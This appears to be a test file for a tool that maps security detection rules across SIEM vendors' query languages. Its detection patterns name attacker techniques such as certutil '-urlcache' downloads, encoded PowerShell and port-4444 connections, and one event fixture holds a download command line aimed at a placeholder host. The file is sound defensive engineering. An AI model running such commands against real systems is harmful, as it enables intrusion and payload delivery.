/**
 * One event, every vendor: canonical log sources and fields per language (the vocabularies' tables), action keys,
 * implication between canonical conditions, and events re-expressed from one language's view into another's.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { and, not, opaque, or, pred, type Expr, type TransformArg } from '../src/model/expr.ts';
import type { Format } from '../src/model/facts.ts';
import type { LogSource, RuleRecord } from '../src/model/rule.ts';
import { canonicalView } from '../src/model/vocabulary/canonical.ts';
import { relate } from '../src/model/vocabulary/implication.ts';
import { renderExpr } from '../src/model/render.ts';
import { evaluate } from '../src/model/evaluate.ts';
import { vocabularyFor } from '../src/formats/vocabularies.ts';
import { reexpressEvent } from '../src/catalog/crossvendor.ts';
import { buildLogic } from '../src/model/lowering.ts';
import { minimalRule } from './helpers/records.ts';

/** A minimal rule record of a language: its declared log sources and condition. */
const rule = (format: Format, logSources: LogSource[], condition: Expr): RuleRecord => minimalRule(format, logSources, condition);

function view(r: RuleRecord) {
  return canonicalView(r, vocabularyFor(r.format)!);
}

const keys = (r: RuleRecord) => view(r).actionKeys.map((k) => `${k.logSource}|${k.field}|${k.value}`);

describe('process creation of certutil.exe, in every language', () => {
  const expected = ['windows.process_creation|Image:name|certutil.exe'];
  const cases: [string, RuleRecord][] = [
    ['sigma Image endswith', rule('sigma', [{ kind: 'logsource', name: 'windows/process_creation', detail: { product: 'windows', category: 'process_creation' } }], and(pred('Image', 'ends_with', ['\\certutil.exe']), pred('CommandLine', 'contains', ['-urlcache'])))],
    ['kql Defender FileName', rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], and(pred('FileName', 'eq', ['certutil.exe'], { cs: false }), pred('ProcessCommandLine', 'contains', ['-urlcache'])))],
    ['kql SecurityEvent 4688 NewProcessName', rule('kusto', [{ kind: 'table', name: 'SecurityEvent' }], and(pred('EventID', 'eq', [4688]), pred('NewProcessName', 'ends_with', ['\\certutil.exe'])))],
    ['splunk CIM process_name', rule('splunk', [{ kind: 'data_source', name: 'Sysmon EventID 1' }], pred('Processes.process_name', 'eq', ['certutil.exe']))],
    ['elastic ECS process.name', rule('elastic', [{ kind: 'index', name: 'logs-endpoint.events.process-*' }], and(pred('event.category', 'eq', ['process']), pred('host.os.type', 'eq', ['windows']), pred('process.name', 'eq', ['certutil.exe'], { cs: false })))],
    ['yara-l UDM full path', rule('yaral', [], and(pred('metadata.event_type', 'eq', ['PROCESS_LAUNCH']), pred('target.process.file.full_path', 'ends_with', ['\\certutil.exe'])))],
    ['yara-l regex that states the path ends so', rule('yaral', [], and(pred('metadata.event_type', 'eq', ['PROCESS_LAUNCH']), pred('target.process.file.full_path', 'regex', ['.*\\\\certutil\\.exe$'], { cs: false, missingAs: '' })))],
    ['sigma |re of the same', rule('sigma', [{ kind: 'logsource', name: 'windows/process_creation', detail: { product: 'windows', category: 'process_creation' } }], pred('Image', 'regex', ['(?i)\\\\certutil\\.exe$']))],
  ];
  for (const [name, r] of cases) {
    it(name, () => {
      const v = view(r);
      assert.ok(v.logSources.includes('windows.process_creation'), `log sources ${v.logSources.join(', ')}`);
      assert.deepEqual(keys(r).filter((k) => k.includes('certutil')), expected);
    });
  }
  it('a regex that states no exact string test stays a regex, and one that states contains is that', () => {
    const yl = (pattern: string) => view(rule('yaral', [], and(pred('metadata.event_type', 'eq', ['PROCESS_LAUNCH']), pred('target.process.command_line', 'regex', [pattern], { cs: false }))));
    const onCommandLine = (pattern: string) => yl(pattern).predicates.filter((p) => p.field === 'CommandLine');
    assert.deepEqual(onCommandLine('.*-urlcache.*').map((p) => [p.op, p.values, p.cs, p.native.op]), [['contains', ['-urlcache'], false, 'regex']]);
    assert.deepEqual(onCommandLine('-url(cache)?').map((p) => [p.op, p.values]), [['regex', ['-url(cache)?']]]);
  });
  it('the command line maps onto the same canonical field everywhere', () => {
    const f = (r: RuleRecord) => view(r).predicates.find((p) => p.values.includes('-urlcache'))?.field;
    assert.equal(f(cases[0]![1]), 'CommandLine');
    assert.equal(f(cases[1]![1]), 'CommandLine');
  });
});

describe('CloudTrail UpdateAssumeRolePolicy, in every language', () => {
  const expected = ['aws.cloudtrail|eventName|updateassumerolepolicy'];
  it('panther: a negated ne is a requirement', () => {
    const r = rule('panther', [{ kind: 'LogTypes', name: 'AWS.CloudTrail' }], not(or(pred('errorCode', 'is_not_null'), pred('eventName', 'ne', ['UpdateAssumeRolePolicy']))));
    assert.deepEqual(keys(r), expected);
  });
  it('sigma, KQL AWSCloudTrail, Elastic event.action, Splunk, YARA-L product_event_type', () => {
    assert.deepEqual(keys(rule('sigma', [{ kind: 'logsource', name: 'aws/cloudtrail', detail: { product: 'aws', service: 'cloudtrail' } }], pred('eventName', 'eq', ['UpdateAssumeRolePolicy']))), expected);
    assert.deepEqual(keys(rule('kusto', [{ kind: 'table', name: 'AWSCloudTrail' }], pred('EventName', 'eq', ['UpdateAssumeRolePolicy'], { cs: true }))), expected);
    assert.deepEqual(keys(rule('elastic', [{ kind: 'index', name: 'logs-aws.cloudtrail-*' }], pred('event.action', 'eq', ['UpdateAssumeRolePolicy']))), expected);
    assert.deepEqual(keys(rule('splunk', [{ kind: 'data_source', name: 'AWS CloudTrail UpdateAssumeRolePolicy' }], pred('eventName', 'eq', ['UpdateAssumeRolePolicy']))), expected);
    assert.deepEqual(keys(rule('yaral', [], and(pred('metadata.log_type', 'eq', ['AWS_CLOUDTRAIL']), pred('metadata.product_event_type', 'eq', ['UpdateAssumeRolePolicy'])))), expected);
  });
  it('an exclusion is not an action key', () => {
    assert.deepEqual(keys(rule('sigma', [{ kind: 'logsource', name: 'aws/cloudtrail', detail: { product: 'aws', service: 'cloudtrail' } }], and(pred('eventSource', 'eq', ['iam.amazonaws.com']), not(pred('eventName', 'eq', ['GetRole']))))), []);
  });
});

describe('YARA-L rules that name Windows events by id alone (metadata.product_event_type)', () => {
  const declared = (name: string): LogSource[] => [{ kind: 'logsource', name }];
  const byId = (name: string, ids: string[], test: Expr = pred('$e.target.process.file.full_path', 'ends_with', ['\\certutil.exe'], { cs: false })) =>
    rule('yaral', declared(name), and(pred('$e.metadata.product_event_type', ids.length > 1 ? 'in' : 'eq', ids), test));
  it("a Sysmon rule's ids are Sysmon's event ids: 1 is process creation, 11 and 13 a file and a registry event", () => {
    assert.deepEqual(view(byId('windows/sysmon', ['1'])).logSources, ['windows.process_creation']);
    assert.deepEqual(keys(byId('windows/sysmon', ['1'])), ['windows.process_creation|Image:name|certutil.exe']);
    assert.deepEqual(view(byId('windows/sysmon', ['11', '13'])).logSources, ['windows.file', 'windows.registry']);
  });
  it("a rule declaring Windows alone reads 4688 as the Security log's process creation and 1 as Sysmon's", () => {
    assert.deepEqual(view(byId('windows', ['1', '4688'])).logSources, ['windows.process_creation']);
  });
  it("a Security rule's id is the log's action, as Sigma's EventID", () => {
    const logon = byId('windows/security', ['4624'], pred('$e.target.user.userid', 'eq', ['admin']));
    assert.deepEqual(view(logon).logSources, ['windows.security']);
    assert.deepEqual(keys(logon), ['windows.security|EventID|4624']);
    const sigma = rule('sigma', [{ kind: 'logsource', name: 'windows/security', detail: { product: 'windows', service: 'security' } }], pred('EventID', 'eq', [4624]));
    assert.deepEqual(keys(sigma), ['windows.security|EventID|4624']);
  });
  it('an id no table names, a rule declaring two logs, or an id that is no number leaves the rule its declared source', () => {
    assert.deepEqual(view(byId('windows/sysmon', ['1', '99'])).logSources, ['vendor:chronicle/windows/sysmon']);
    assert.deepEqual(view(rule('yaral', [...declared('windows/sysmon'), ...declared('windows/security')], pred('$e.metadata.product_event_type', 'eq', ['1']))).logSources, ['vendor:chronicle/windows/sysmon']);
    assert.deepEqual(view(byId('windows', ['4624'])).logSources, ['vendor:chronicle/windows'], 'a Security id without the log declared is not guessed');
    assert.deepEqual(view(byId('windows/sysmon', ['ProcessCreate'])).logSources, ['vendor:chronicle/windows/sysmon']);
  });
});

describe('email: MQL array quantifiers and Defender EmailAttachmentInfo', () => {
  it('an attachment extension tested inside any(attachments, …) is the same action as EmailAttachmentInfo FileType', () => {
    const mql = rule('mql', [{ kind: 'data_model', name: 'Sublime message data model (email)' }], { kind: 'each', quant: 'any', array: 'attachments', expr: pred('.file_extension', 'in', ['html', 'htm'], { cs: false }) } as Expr);
    const kql = rule('kusto', [{ kind: 'table', name: 'EmailAttachmentInfo' }], pred('FileType', 'eq', ['html'], { cs: false }));
    assert.deepEqual(keys(mql), ['email|attachments.file_extension|html', 'email|attachments.file_extension|htm']);
    assert.deepEqual(keys(kql), ['email|attachments.file_extension|html']);
  });
  it("a file name's suffix `.ext` is exactly that extension, in either language; a suffix with a dot or a wildcard is not", () => {
    const mql = rule('mql', [{ kind: 'data_model', name: 'Sublime message data model (email)' }], { kind: 'each', quant: 'any', array: 'attachments', expr: pred('.file_name', 'ends_with', ['.jnlp'], { cs: false }) } as Expr);
    const kql = rule('kusto', [{ kind: 'table', name: 'EmailAttachmentInfo' }], pred('FileName', 'ends_with', ['.jnlp', '.JAR'], { cs: false }));
    assert.deepEqual(keys(mql), ['email|attachments.file_extension|jnlp']);
    assert.deepEqual(keys(kql), ['email|attachments.file_extension|jnlp', 'email|attachments.file_extension|jar']);
    assert.equal(renderExpr(view(mql).condition!), 'any(attachments, .file_extension eq[ci] "jnlp")');
    for (const v of ['.tar.gz', 'jnlp', '.js*', '.']) assert.deepEqual(keys(rule('kusto', [{ kind: 'table', name: 'EmailAttachmentInfo' }], pred('FileName', 'ends_with', [v], { cs: false }))), [], v);
    // excluded: still a test of the extension, under its negation, and no action key
    const not_ = rule('kusto', [{ kind: 'table', name: 'EmailAttachmentInfo' }], not(pred('FileName', 'ends_with', ['.jnlp'], { cs: false })));
    assert.equal(renderExpr(view(not_).condition!), 'not attachments.file_extension eq[ci] "jnlp"');
    assert.deepEqual(keys(not_), []);
  });
});

describe('Winlogbeat event data', () => {
  it('winlog.event_data.X is the Windows event field X', () => {
    const r = rule('elastic', [{ kind: 'index', name: 'logs-system.security*' }], and(pred('event.code', 'eq', ['4624']), pred('winlog.event_data.LogonProcessName', 'eq', ['seclogo'])));
    const v = view(r);
    assert.deepEqual(v.logSources, ['windows.security']);
    assert.deepEqual(v.predicates.map((p) => p.field), ['EventID', 'LogonProcessName']);
  });
});

describe('audit events carried inside another log', () => {
  const member = (field: string, keys: TransformArg[][], op: 'eq' | 'is_not_null' = 'eq', values: string[] = ['create']) =>
    pred(field, op, values, undefined, undefined, { steps: [{ fn: 'json' }, ...keys.map((args) => ({ fn: 'get' as const, args }))], lang: 'python', onError: 'null' });
  it('Panther: json(properties.log).verb of an AKS event is the Kubernetes audit verb', () => {
    const r = rule('panther', [{ kind: 'LogTypes', name: 'Azure.MonitorActivity' }], and(pred('verb', 'eq', ['create']), member('properties.log', [['objectRef', { empty: 'object' }], ['resource']], 'eq', ['pods'])));
    const v = view(r);
    assert.ok(v.logSources.includes('kubernetes.audit'));
    assert.deepEqual(v.predicates.map((p) => [p.field, p.values]), [['verb', ['create']], ['objectRef.resource', ['pods']]]);
    assert.equal(v.mapped, v.total);
    // the canonical predicate tests the field itself, not a JSON text
    assert.ok(!renderExpr(v.condition!).includes('json('));
  });
  it('other derivations are no member: the JSON text itself, a member with a default, a computed value', () => {
    const withDefault = member('properties.log', [['verb', 'none']]);
    const jsonOnly = member('properties.log', [], 'is_not_null', []);
    const lowered = pred('properties.log', 'eq', ['create'], undefined, undefined, { steps: [{ fn: 'json' }, { fn: 'get', args: ['verb'] }, { fn: 'lower' }], lang: 'python' });
    const v = view(rule('panther', [{ kind: 'LogTypes', name: 'Azure.MonitorActivity' }], and(pred('verb', 'eq', ['create']), withDefault, jsonOnly, lowered)));
    assert.equal(v.total, 4);
    // they keep their chain over the field (which the raw log source maps as itself) and give no canonical value
    assert.deepEqual(v.predicates.map((p) => p.field), ['verb']);
    assert.equal((renderExpr(v.condition!).match(/json\(properties\.log\)/g) ?? []).length, 3);
  });
  it('a value computed from a mapped field keeps its chain on the canonical field: mapped, but no value of it', () => {
    const lowered = pred('ProcessCommandLine', 'has', ['-enc'], undefined, undefined, { steps: [{ fn: 'lower' }], lang: 'kql' });
    const v = view(rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], and(pred('FileName', 'eq', ['powershell.exe']), lowered)));
    assert.equal(v.total, 2);
    assert.equal(v.mapped, 2);
    // only the plain predicate gives canonical predicates (action keys, indicator rows)
    assert.deepEqual(v.predicates.map((p) => p.field), ['Image:name']);
    const shown = renderExpr(v.condition!);
    assert.match(shown, /CommandLine/);
    assert.doesNotMatch(shown, /ProcessCommandLine/);
    // evaluated with its chain on the canonical field
    assert.equal(evaluate(v.condition!, { 'Image:name': 'powershell.exe', CommandLine: 'powershell -ENC aQBlAHgA' }), true);
    assert.equal(evaluate(v.condition!, { 'Image:name': 'powershell.exe', CommandLine: 'powershell -File x.ps1' }), false);
  });
  it('a chain over a field whose values differ by vendor stays unmapped (Defender ActionType is an event id)', () => {
    const lowered = pred('ActionType', 'eq', ['logonfailed'], undefined, undefined, { steps: [{ fn: 'lower' }], lang: 'kql' });
    const v = view(rule('kusto', [{ kind: 'table', name: 'DeviceLogonEvents' }], lowered));
    assert.equal(v.mapped, 0);
    assert.match(renderExpr(v.condition!), /\?ActionType/);
  });
  it('Elastic: kubernetes.audit.X of the audit_logs data stream is the audit event field X', () => {
    const r = rule('elastic', [{ kind: 'index', name: 'logs-kubernetes.audit_logs-*' }], and(pred('kubernetes.audit.stage', 'eq', ['ResponseComplete']), pred('kubernetes.audit.verb', 'eq', ['create'])));
    assert.deepEqual(view(r).predicates.map((p) => p.field), ['stage', 'verb']);
  });
});

describe('the account of a network connection', () => {
  it('Defender InitiatingProcessAccountName is Sysmon event 3 User', () => {
    const kql = view(rule('kusto', [{ kind: 'table', name: 'DeviceNetworkEvents' }], and(pred('RemotePort', 'eq', [4444]), pred('InitiatingProcessAccountName', 'eq', ['svc']))));
    assert.deepEqual(kql.predicates.map((p) => p.field), ['DestinationPort', 'User']);
  });
});

describe('values that differ by vendor', () => {
  it('Defender DeviceLogonEvents ActionType LogonFailed is Security event 4625', () => {
    const r = rule('kusto', [{ kind: 'table', name: 'DeviceLogonEvents' }], pred('ActionType', 'eq', ['LogonFailed']));
    assert.deepEqual(keys(r), ['windows.security|EventID|4625']);
  });
  it('unmapped fields keep their native name, marked, and count against the mapped share', () => {
    const v = view(rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], and(pred('FileName', 'eq', ['a.exe']), pred('AdditionalFields.Foo', 'eq', ['x']))));
    assert.equal(v.total, 2);
    assert.equal(v.mapped, 1);
    assert.match(renderExpr(v.condition!), /\?AdditionalFields\.Foo/);
  });
});

describe('implication over canonical conditions', () => {
  const img = (op: 'eq' | 'ends_with' | 'contains', v: string, cs = false) => pred('Image', op, [v], { cs });
  it('eq implies contains, prefix and suffix; a conjunction with more conditions is stricter', () => {
    assert.equal(relate(img('eq', 'c:\\x\\certutil.exe'), img('ends_with', 'certutil.exe')), 'stricter');
    assert.equal(relate(and(img('ends_with', '\\certutil.exe'), pred('CommandLine', 'contains', ['urlcache'])), img('ends_with', '\\certutil.exe')), 'stricter');
    assert.equal(relate(img('ends_with', '\\certutil.exe'), and(img('ends_with', '\\certutil.exe'), pred('CommandLine', 'contains', ['urlcache']))), 'broader');
  });
  it('in implies in of a superset; equal conditions are equivalent', () => {
    assert.equal(relate(pred('x', 'in', ['a', 'b']), pred('x', 'in', ['a', 'b', 'c'])), 'stricter');
    assert.equal(relate(pred('x', 'in', ['a', 'b']), or(pred('x', 'eq', ['b']), pred('x', 'eq', ['a']))), 'equivalent');
  });
  it('case rules: a case-insensitive test does not imply a case-sensitive one', () => {
    assert.equal(relate(pred('x', 'eq', ['Ab'], { cs: true }), pred('x', 'eq', ['ab'], { cs: false })), 'stricter');
    assert.equal(relate(pred('x', 'eq', ['ab'], { cs: false }), pred('x', 'eq', ['Ab'], { cs: true })), 'broader');
    assert.equal(relate(pred('x', 'eq', ['ab'], { cs: true }), pred('x', 'eq', ['Ab'], { cs: true })), undefined, 'two case-sensitive values differ');
  });
  it('negations: excluding more is stricter', () => {
    const base = pred('a', 'eq', ['1']);
    assert.equal(relate(and(base, not(pred('u', 'contains', ['svc']))), and(base, not(pred('u', 'eq', ['svc_backup'])))), 'stricter');
  });
  it('opaque parts: narrow the antecedent, never proved in the consequent', () => {
    const base = pred('a', 'eq', ['1']);
    assert.equal(relate(and(base, opaque('f(x)', 'function')), base), 'stricter');
    assert.equal(relate(base, and(base, opaque('f(x)', 'function'))), 'broader');
    assert.equal(relate(and(base, opaque('g(y)', 'function')), and(base, opaque('f(x)', 'function'))), undefined);
  });
  it('operators outside the fragment imply only themselves', () => {
    assert.equal(relate(pred('x', 'regex', ['^a']), pred('x', 'starts_with', ['a'])), undefined);
    assert.equal(relate(pred('x', 'regex', ['^a']), pred('x', 'regex', ['^a'])), 'equivalent');
  });
});

describe('an event re-expressed in another language', () => {
  it('a CloudTrail event in Panther view fires the KQL AWSCloudTrail rule', () => {
    const event = { eventName: 'UpdateAssumeRolePolicy', eventSource: 'iam.amazonaws.com', userIdentity: { arn: 'arn:aws:iam::1:user/x' } };
    const kql = rule('kusto', [{ kind: 'table', name: 'AWSCloudTrail' }], and(pred('EventName', 'eq', ['UpdateAssumeRolePolicy'], { cs: true }), pred('UserIdentityArn', 'contains', [':user/'])));
    const native = reexpressEvent(event, vocabularyFor('panther')!, vocabularyFor('kusto')!, 'aws.cloudtrail');
    assert.equal(native['EventName'], 'UpdateAssumeRolePolicy');
    assert.equal(evaluate(kql.logic.condition!, native), true);
  });
  it('a Sysmon process event in Sigma view fires the Defender rule on FileName', () => {
    const event = { EventID: 1, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x/a a' };
    const kql = rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], and(pred('FileName', 'eq', ['certutil.exe'], { cs: false }), pred('ProcessCommandLine', 'contains', ['-urlcache'])));
    const native = reexpressEvent(event, vocabularyFor('sigma')!, vocabularyFor('kusto')!, 'windows.process_creation');
    assert.equal(evaluate(kql.logic.condition!, native), true);
  });
});

// Fixes from the hand-checked sample of links (test/fixtures/crossvendor/links-sample.tsv)
describe('Kubernetes audit: the action is the verb on a resource (and subresource), never one of them alone', () => {
  const k8s: LogSource = { kind: 'logsource', name: 'kubernetes/application/audit', detail: { product: 'kubernetes', service: 'audit' } };
  const sigma = (c: Expr) => rule('sigma', [k8s], c);
  const createPods = sigma(and(pred('verb', 'eq', ['create']), pred('objectRef.resource', 'eq', ['pods']), pred('capabilities', 'wildcard', ['*'])));
  const execPods = rule('panther', [{ kind: 'LogTypes', name: 'Amazon.EKS.Audit' }], and(pred('objectRef.resource', 'eq', ['pods'], { cs: true }), pred('objectRef.subresource', 'eq', ['exec'], { cs: true })));
  const createRoleBinding = rule('elastic', [{ kind: 'index', name: 'logs-kubernetes.audit_logs-*' }], and(pred('kubernetes.audit.verb', 'eq', ['create']), pred('kubernetes.audit.objectRef.resource', 'in', ['rolebindings', 'clusterrolebindings'])));
  const shared = (a: RuleRecord, b: RuleRecord) => keys(a).filter((k) => keys(b).includes(k));
  it('creating a pod is not exec into a pod, nor creating a role binding', () => {
    assert.deepEqual(keys(createPods), ['kubernetes.audit|verb+objectRef.resource+objectRef.subresource|create pods']);
    assert.deepEqual(keys(execPods).map((k) => k.split('|')[2]), ['get', 'list', 'watch', 'create', 'update', 'patch', 'delete', 'deletecollection'].map((v) => `${v} pods/exec`), 'no verb pinned: every verb');
    assert.deepEqual(shared(createPods, execPods), []);
    assert.deepEqual(shared(createPods, createRoleBinding), []);
  });
  it('the same verb on the same resource links, in any language', () => {
    const elastic = rule('elastic', [{ kind: 'index', name: 'logs-kubernetes.audit_logs-*' }], and(pred('kubernetes.audit.objectRef.resource', 'eq', ['pods']), pred('kubernetes.audit.verb', 'in', ['create', 'update', 'patch'])));
    assert.deepEqual(shared(createPods, elastic), ['kubernetes.audit|verb+objectRef.resource+objectRef.subresource|create pods']);
  });
  it('a rule that pins no verb tests each verb of its resource', () => {
    const execVerb = sigma(and(pred('verb', 'eq', ['create']), pred('objectRef.resource', 'eq', ['pods']), pred('objectRef.subresource', 'eq', ['exec'])));
    assert.deepEqual(shared(execPods, execVerb), ['kubernetes.audit|verb+objectRef.resource+objectRef.subresource|create pods/exec']);
  });
  it('a long Panther-style negated condition does not lose its combinations (branches are kept distinct)', () => {
    const guard = (lt: string) => and(pred('@logType', 'eq', [lt]), pred('verb', 'ne', ['create']));
    const guards = Array.from({ length: 12 }, (_, i) => guard(`T${i}`));
    const r = rule('panther', [{ kind: 'LogTypes', name: 'Amazon.EKS.Audit' }], not(or(...guards, pred('objectRef.resource', 'ne', ['pods']))));
    assert.ok(keys(r).some((k) => k.endsWith('|create pods')), keys(r).join(' '));
  });
  it('combinations are made per conjunction, negations pushed to the leaves (Panther `not (verb != "create")`)', () => {
    const r = rule('panther', [{ kind: 'LogTypes', name: 'Amazon.EKS.Audit' }], or(and(pred('verb', 'eq', ['patch']), pred('objectRef.resource', 'eq', ['cronjobs'])), not(or(pred('verb', 'ne', ['delete']), pred('objectRef.resource', 'ne', ['secrets'])))));
    assert.deepEqual(keys(r).map((k) => k.split('|')[2]), ['patch cronjobs', 'delete secrets']);
  });
});

describe('a full path is kept beside the file name it implies', () => {
  const proc: LogSource = { kind: 'index', name: 'logs-endpoint.events.process-*' };
  const elastic = (c: Expr) => rule('elastic', [proc], and(pred('event.category', 'eq', ['process']), pred('host.os.type', 'eq', ['windows']), c));
  it('`not executable : "C:\\…\\netsh.exe"` excludes that path, not every netsh.exe', () => {
    const r = elastic(and(pred('process.name', 'eq', ['netsh.exe'], { cs: false }), pred('process.executable', 'is_not_null'), not(pred('process.executable', 'eq', ['C:\\Windows\\System32\\netsh.exe'], { cs: false }))));
    const v = view(r);
    const renamed = { 'Image:name': 'netsh.exe', Image: 'C:\\Users\\Public\\netsh.exe', '@event.category': 'process', '@os': 'windows' }; // ECS selectors are meta fields
    assert.equal(evaluate(v.condition!, renamed), true, renderExpr(v.condition!));
    assert.doesNotMatch(renderExpr(v.condition!), /Image:name eq and/);
    assert.deepEqual(keys(r), ['windows.process_creation|Image:name|netsh.exe']);
  });
  it('a rule on the full path is stricter than one on the name', () => {
    const onPath = view(rule('sigma', [{ kind: 'logsource', name: 'windows/process_creation', detail: { product: 'windows', category: 'process_creation' } }], pred('Image', 'eq', ['C:\\Windows\\System32\\certutil.exe'])));
    const onName = view(rule('kusto', [{ kind: 'table', name: 'DeviceProcessEvents' }], pred('FileName', 'eq', ['certutil.exe'], { cs: false })));
    assert.equal(relate(onPath.condition!, onName.condition!), 'stricter');
  });
});

describe('Defender for Identity logons are not the host Security log', () => {
  it('IdentityLogonEvents LogonSuccess is no Security 4624 key', () => {
    const r = rule('kusto', [{ kind: 'table', name: 'IdentityLogonEvents' }], pred('ActionType', 'eq', ['LogonSuccess']));
    assert.deepEqual(view(r).logSources, ['vendor:identitylogonevents']);
    assert.deepEqual(keys(r), []);
  });
});

describe('an ES|QL rule reads the indices of its FROM', () => {
  it('integration aws + FROM logs-aws.cloudtrail-* is CloudTrail; its event.action list gives the keys', () => {
    const condition = and(pred('event.action', 'in', ['CreateRole', 'UpdateAssumeRolePolicy']), pred('aws.cloudtrail.user_identity.type', 'eq', ['AssumedRole']));
    const r: RuleRecord = { ...rule('elastic', [{ kind: 'integration', name: 'aws' }], condition) };
    const withFrom: RuleRecord = { ...r, logic: buildLogic({ stages: [{ kind: 'source', label: 'from', text: 'FROM logs-aws.cloudtrail-*', detail: { indices: ['logs-aws.cloudtrail-*'] } }], condition }) };
    assert.deepEqual(view(r).logSources, ['vendor:elastic/aws'], 'the integration alone does not say which AWS log');
    assert.deepEqual(view(withFrom).logSources, ['aws.cloudtrail']);
    assert.ok(keys(withFrom).includes('aws.cloudtrail|eventName|updateassumerolepolicy'));
  });
});

describe('an action value outside its log', () => {
  it("Sysmon's EventID 1 tested under a generic Windows log type is no Security-log key; 4688 is", () => {
    const r = rule('panther', [{ kind: 'LogTypes', name: 'Windows.EventLogs' }], pred('EventID', 'in', ['4688', '1'], { cs: true }));
    assert.deepEqual(keys(r), ['windows.security|EventID|4688']);
  });
});

describe('Elastic endpoint events keep their operating system', () => {
  const ep = (os: string, category: string, c: Expr) => rule('elastic', [{ kind: 'index', name: 'logs-endpoint.events.*' }], and(pred('event.category', 'eq', [category]), pred('host.os.type', 'eq', [os]), c));
  it('a macOS file event is not a Windows file event', () => {
    const r = ep('macos', 'file', pred('file.name', 'eq', ['payload.exe']));
    assert.deepEqual(view(r).logSources, ['vendor:elastic.endpoint.macos.file']);
    assert.deepEqual(keys(r), []);
  });
  it('Linux file and Windows file events keep their canonical sources', () => {
    assert.deepEqual(view(ep('linux', 'file', pred('file.name', 'eq', ['x']))).logSources, ['linux.file']);
    assert.deepEqual(view(ep('windows', 'file', pred('file.name', 'eq', ['x']))).logSources, ['windows.file']);
    assert.deepEqual(view(ep('linux', 'network', pred('destination.port', 'eq', [22]))).logSources, ['vendor:elastic.endpoint.linux.network']);
  });
});

describe('Windows network connections (Sysmon 3) in every language', () => {
  const sysmon3 = (format: Format, ls: LogSource[], c: Expr) => view(rule(format, ls, c));
  it('Splunk CIM fed by Sysmon 3: app is the image path, the rest the event fields', () => {
    const v = sysmon3('splunk', [{ kind: 'data_source', name: 'Sysmon EventID 3' }], and(pred('All_Traffic.app', 'ends_with', ['\\mshta.exe']), pred('All_Traffic.dest_ip', 'eq', ['10.0.0.1']), pred('All_Traffic.process_id', 'eq', [4]), pred('DestinationPortName', 'eq', ['http'])));
    assert.equal(v.mapped, v.total);
    assert.deepEqual(v.actionKeys, []);
    assert.equal(renderExpr(v.condition!), 'Image:name eq[ci] "mshta.exe" and DestinationIp eq "10.0.0.1" and ProcessId eq 4 and DestinationPortName eq "http"');
  });
  it('ECS process.pid and Defender InitiatingProcessId are the ProcessId', () => {
    const e = sysmon3('elastic', [{ kind: 'index', name: 'logs-endpoint.events.network-*' }], and(pred('event.category', 'eq', ['network']), pred('host.os.type', 'eq', ['windows']), pred('process.pid', 'eq', [4])));
    assert.ok(e.logSources.includes('windows.network'), e.logSources.join());
    assert.ok(e.predicates.some((p) => p.field === 'ProcessId'), JSON.stringify(e.predicates.map((p) => p.field)));
    const k = sysmon3('kusto', [{ kind: 'table', name: 'DeviceNetworkEvents' }], pred('InitiatingProcessId', 'eq', [4]));
    assert.equal(k.predicates[0]?.field, 'ProcessId');
  });
  it('Windows event data is flat: a dotted name is no sub-field of an event field (ECS user.id is not User.id)', () => {
    const e = sysmon3('elastic', [{ kind: 'index', name: 'logs-endpoint.events.network-*' }], and(pred('event.category', 'eq', ['network']), pred('host.os.type', 'eq', ['windows']), pred('user.id', 'eq', ['S-1-5-18'])));
    assert.equal(e.predicates.some((p) => p.field.startsWith('User')), false);
    assert.match(renderExpr(e.condition!), /\?user\.id/);
  });
});
